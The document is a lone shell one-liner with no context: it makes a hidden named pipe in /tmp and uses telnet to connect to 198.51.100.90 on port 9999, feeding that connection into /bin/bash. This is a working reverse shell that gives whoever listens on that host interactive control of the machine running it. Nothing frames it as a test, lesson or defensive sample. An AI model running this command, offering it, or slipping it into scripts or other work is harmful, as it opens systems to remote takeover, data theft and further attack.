mkfifo /tmp/.p; telnet 198.51.100.90 9999 0</tmp/.p | /bin/bash 1>/tmp/.p
